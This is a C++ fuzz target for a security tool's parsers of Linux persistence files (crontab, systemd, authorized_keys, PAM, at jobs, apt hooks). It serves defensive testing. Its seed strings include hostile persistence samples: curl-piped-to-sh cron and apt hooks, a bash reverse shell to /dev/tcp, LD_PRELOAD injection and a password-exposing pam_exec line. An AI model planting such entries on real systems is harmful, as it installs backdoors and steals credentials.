// Fuzz target: crontab, systemd unit, authorized_keys, udev, PAM, modprobe, env, at job and
// apt.conf hook parsers, and the start-up content patterns.
#include <string_view>

#include "collect/persistence_parse.hpp"
#include "collect/script_patterns.hpp"
#include "fuzz.hpp"

extern "C" int LLVMFuzzerTestOneInput(const std::uint8_t* data, std::size_t size) {
  std::string_view s(reinterpret_cast<const char*>(data), size);
  using namespace vigil::collect;
  (void)parse_crontab(s, true);
  (void)parse_crontab(s, false);
  (void)parse_systemd_unit(s);
  (void)parse_authorized_keys(s);
  (void)parse_udev_runs(s);
  for (const auto& e : parse_pam_stack(s)) (void)pam_exec_program(e.args);
  (void)parse_modprobe_installs(s);
  (void)parse_module_list(s);
  (void)parse_env_assignments(s, "LD_PRELOAD");
  (void)parse_command_lines(s);
  (void)parse_desktop_exec(s);
  (void)parse_at_job(s);
  (void)parse_apt_hooks(s);
  for (const auto& h : scan_script(s))
    if (h.line == 0 || !h.pattern) __builtin_trap();  // every hit names a line and a pattern
  return 0;
}

std::vector<std::string> fuzz_seeds() {
  return {"SHELL=/bin/sh\n*/5 * * * * root curl x | sh\n@reboot /tmp/.x\n",
          "[Service]\nExecStart=-/usr/bin/x\nEnvironment=LD_PRELOAD=/l.so\n[Timer]\nUnit=a.service\n",
          "command=\"/bin/x \\\"q\\\"\",no-pty ssh-rsa AAAA c\nssh-ed25519 AAAA\n",
          "ACTION==\"add\", RUN{program}+=\"/bin/y\"\n", "auth [success=1 default=ignore] pam_unix.so\n",
          "auth optional pam_exec.so quiet expose_authtok /usr/local/bin/x a\n-session [default=1 x\\]y] pam_y.so [a b]\n",
          "install x /bin/sh -c y\n", "export LD_PRELOAD=\"/a.so\"\n", "[Desktop Entry]\nExec=/x\n",
          "#!/bin/sh\n# atrun uid=0 gid=0\nOLDPWD=/tmp; export OLDPWD\ncd /root || {\n}\n"
          "${SHELL:-/bin/sh} << 'marcinDELIMITER1'\nbash -i >& /dev/tcp/1.2.3.4/5 0>&1\nmarcinDELIMITER1\n",
          "DPkg::Post-Invoke { \"rm -f /x || true\"; };\n/* c */ APT::Update::Pre-Invoke:: \"curl x|sh\";\n"
          "DPkg { Pre-Install-Pkgs { \"/usr/sbin/dpkg-preconfigure --apt\"; }; };\n"};
}
